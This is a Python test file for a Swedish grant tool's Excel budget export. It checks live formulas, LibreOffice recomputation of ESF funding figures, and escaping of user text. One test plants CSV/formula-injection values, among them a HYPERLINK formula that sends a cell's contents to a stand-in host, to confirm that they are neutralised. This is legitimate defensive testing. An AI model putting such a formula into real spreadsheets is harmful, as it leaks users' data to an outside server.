"""An own application's budget as Excel: live formulas that LibreOffice recomputes to the funder's figures."""
from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess

import openpyxl
import pytest

from finsamdesk.domain import esf
from finsamdesk.services.errors import ServiceError
from finsamdesk.services.esf_files import budget_xlsx_of
from finsamdesk.services.templates import get_template
from tests.fixtures.esf import load


def sheet(name: str, title: str):
    return openpyxl.load_workbook(io.BytesIO(budget_xlsx_of(load(name))))[title]


def row_of(ws, label: str, column: int = 1) -> int:
    return next(r for r in range(1, ws.max_row + 1) if ws.cell(r, column).value == label)


def test_the_2014_overview_is_formulas_over_the_cost_tree():
    ws = sheet("iris", "Budgetöversikt")
    esf_row = row_of(ws, "ESF-stöd")
    assert ws.cell(esf_row, 2).value.startswith("=") and ws.cell(esf_row, 2).data_type == "f"
    assert "ROUND(" in ws.cell(row_of(ws, "Budgeterad medfinansiering från projektet") - 1, 2).value
    costs = sheet("iris", "Kostnader")
    group = row_of(costs, "Kostnader socialfonden (Analys- och planeringsfas)")
    assert costs.cell(group, 2).value == f"=B{group + 1}+B{group + 2}+B{group + 3}+B{group + 4}+B{group + 5}" \
                                         f"+B{group + 6}-B{group + 7}"  # Intäkter subtract
    assert costs.cell(group + 1, 2).value == 619_193


def test_personal_lines_are_the_rate_rule_as_a_formula():
    ws = sheet("connecto", "Budgetspecifikation")
    first = row_of(ws, "Projektledare", 2)
    text = ws.cell(first, 7).value
    assert text.startswith("=ROUND(VLOOKUP(D") and "*F" in text and "*E" in text and "/12" in text
    assert ws.cell(first, 4).value == 6 and ws.cell(first, 5).value == 100 and ws.cell(first, 6).value == 21
    assert ws.cell(row_of(ws, "Timmar per år"), 2).value == 1720


def test_user_text_is_text_never_a_formula():
    app = load("connecto")
    app.esf.spec_lines[0].description = "=HYPERLINK(\"http://x.example/?\"&A1)"
    app.esf.spec_lines[6].bearer = "@SUM(A1:A9)"
    app.name = "+46 70 174 06 05"
    ws = openpyxl.load_workbook(io.BytesIO(budget_xlsx_of(app)))["Budgetspecifikation"]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+@"]
    hostile = [c for c in cells if not (c.value.startswith("=") and c.data_type == "f" and c.column == 7)]
    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_only_own_applications_have_an_esf_budget():
    from finsamdesk.domain.application import Application

    with pytest.raises(ServiceError, match="ingen egen ansökan"):
        budget_xlsx_of(Application("neutral", name="X", diarienummer="2024-001"))


def _recomputed(tmp_path, name: str) -> dict[str, dict[str, str]]:
    path = tmp_path / f"{name} #1.xlsx"
    path.write_bytes(budget_xlsx_of(load(name)))
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", "--outdir",
                    str(tmp_path), str(path)], check=True, capture_output=True, timeout=180)
    out = {}
    for csv_path in tmp_path.glob(f"{name} #1-*.csv"):
        rows = list(csv.reader(csv_path.read_text(encoding="utf-8").splitlines()))
        out[csv_path.stem.split("-", 1)[1]] = {r[0].strip(): next((c for c in reversed(r) if c), "") for r in rows
                                               if r and r[0]}
    return out


def _number(text: str) -> int:
    return int(re.sub(r"[^\d-]", "", text))


@pytest.mark.slow
@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed here")
@pytest.mark.parametrize("name", ["iris", "mia_vidare", "connecto"])
def test_libreoffice_computes_the_funders_figures(tmp_path, name):
    app = load(name)
    result = esf.compute(app, get_template(app.template_id))
    sheets = _recomputed(tmp_path, name)
    kr = lambda figure: result.figures.value(figure) // 100  # noqa: E731
    if name == "connecto":
        spec = sheets["Budgetspecifikation"]
        assert _number(spec["Kostnader"]) == kr("kostnader") == 12_320_268
        assert _number(spec["Sökt stöd (kostnader − medfinansiering)"]) == 6_652_956
        assert _number(spec["Kostnad per deltagare"]) == 12_320
        assert spec["Budgeterad medfinansiering från projektet"] == "46%"
        assert _number(spec["Personal"]) == 10_585_268
    else:
        over = sheets["Budgetöversikt"]
        assert _number(over["Summa total finansiering"]) == kr("summa_total")
        assert _number(over["Avgår kontant medfinansiering"]) == kr("avgar_kontant")
        assert over["Budgeterad medfinansiering från projektet"] == "53%"
